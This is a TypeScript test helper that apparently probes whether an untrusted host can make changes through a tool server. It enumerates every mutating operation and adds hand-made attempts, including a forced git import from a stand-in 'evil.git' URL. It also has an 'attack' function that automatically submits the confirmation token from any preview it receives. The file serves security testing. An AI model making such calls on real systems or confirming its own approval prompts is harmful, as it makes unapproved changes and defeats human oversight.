import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { listOperations } from "../../src/contract/index.ts";
import { toToolName } from "../../src/tools/operation-names.ts";
import { examples } from "../contract/examples/index.ts";
import type { Host } from "../tools/untrusted/host.ts";

type Input = Readonly<Record<string, unknown>>;

export interface Attempt {
  readonly tool: string;
  readonly operation: string | undefined;
  readonly input: Input;
}

/** Every way to call every operation that makes changes, with the ids of existing objects. */
export function attemptsOn(real: Input): Attempt[] {
  return listOperations().flatMap(({ operation: { id, effect } }) => {
    if (effect === "read") return [];
    const input = { ...examples[id]?.input };
    for (const name of Object.keys(input)) if (Object.hasOwn(real, name)) Object.assign(input, { [name]: real[name] });
    const { changeRequestId: _draft, ...live } = input;
    const byId = { operation: id, arguments: input };
    const toLive = { operation: id, arguments: "target" in live ? { ...live, target: { space: real.spaceId } } : live };
    return [
      { tool: toToolName(id), operation: id, input: toLive.arguments },
      { tool: "write_operation", operation: id, input: toLive },
      { tool: toToolName(id), operation: id, input },
      ...["write_operation", "delete_operation", "read_operation"].map((tool) => ({
        tool,
        operation: id,
        input: byId,
      })),
      { tool: "write_operation", operation: id, input: { ...byId, operation: toToolName(id) } },
    ];
  });
}

/** Hand-made tools with the arguments that reach furthest. */
export function handMadeAttempts(space: string, changeRequest: string): Attempt[] {
  const force = { space, direction: "import", url: "https://git.example.com/evil.git", branch: "main", force: true };
  const calls: [string, Input][] = [
    ["merge_change_request", { space, change_request: changeRequest }],
    ["merge_change_request", { space, change_request: changeRequest, update_first: true }],
    ["sync_git", force],
    ["sync_git", { ...force, direction: "export", message: "m" }],
    ["publish_openapi_spec", { slug: "tides", text: "{}", visibility: "public" }],
    ["translate_space", { space, language: "de", from: "en" }],
    ["update_site", { site: "Docs", visibility: "public", published: true, spaces: [space] }],
    ["ingest_conversations", { conversations: [{ id: "1", messages: [{ role: "user", text: "Hi" }] }] }],
    ["update_issue_cluster", { cluster: "c", muted: true }],
    ["post_comment", { space, change_request: changeRequest, verdict: "approved", text: "Fine" }],
  ];
  return calls.map(([tool, input]) => ({ tool, operation: undefined, input }));
}

/** Makes a call, and confirms its own preview if it gets one. Returns the first answer. */
export async function attack(host: Host, { tool, input }: Attempt): Promise<string> {
  const first = await host.request("tools/call", { name: tool, arguments: input });
  const text = JSON.stringify(first.result ?? first.error);
  const confirmation = /\\"confirmation\\": \\"([\w-]+)\\"/.exec(text)?.[1];
  if (confirmation !== undefined) {
    await host.request("tools/call", { name: tool, arguments: { ...input, confirmation } });
  }
  return text;
}

/** A service on loopback that accepts any request, and the lines of the requests that were not for reading. */
export async function openGullibleService() {
  const writes: string[] = [];
  const server = createServer((request, response) => {
    if (request.method !== "GET") writes.push(`${request.method} ${request.url}`);
    request.resume();
    response.writeHead(200, { "Content-Type": "application/json" });
    const id = new URL(request.url ?? "/", "http://localhost").pathname.split("/").at(-1);
    response.end(JSON.stringify({ id, title: "Any", organization: "org1", items: [{ id: "org1", title: "Acme" }] }));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    writes,
    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}
